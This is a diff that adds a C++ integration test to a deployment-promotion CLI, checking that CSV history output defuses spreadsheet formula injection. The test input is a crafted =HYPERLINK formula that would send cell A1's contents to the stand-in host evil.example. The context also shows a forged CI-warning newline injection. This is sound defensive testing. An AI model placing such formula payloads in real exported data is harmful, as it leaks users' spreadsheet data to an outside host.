@@ -304,6 +304,21 @@ TEST_SUITE("integration") {
     CHECK(contains(show, "\n  reason     fix\\x0a::warning::forged\n"));
   }
 
+  TEST_CASE("forged output: a field of history --output csv is never a spreadsheet formula") {
+    Repo repo({{"k8s/prod/kustomization.yaml", k_overlay},
+               {"promote.yaml", pipeline_with("      - use: ok\n")}},
+              {{"ok", plugin("pass", "\"fine\"")}});
+    const std::string actor = "=HYPERLINK(\"https://evil.example/?\"&A1,\"ok\")";
+    REQUIRE(
+        repo.promote({"--to", "prod", "--image", "api=ghcr.io/acme/api:1.1.0", "--actor", actor})
+            .exit_code == 0);
+    const CommandResult csv = repo.promote({"history", "--output", "csv"});
+    INFO(csv.out);
+    CHECK(contains(csv.out, ",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"ok\"\")\","));
+    CHECK_FALSE(contains(csv.out, ",="));
+    CHECK_FALSE(contains(csv.out, ",\"="));
+  }
+
   TEST_CASE("forged output: a bad argument is quoted shown, not sent") {
     Repo repo({{"k8s/prod/kustomization.yaml", k_overlay},
                {"promote.yaml", pipeline_with("      - use: ok\n")}},
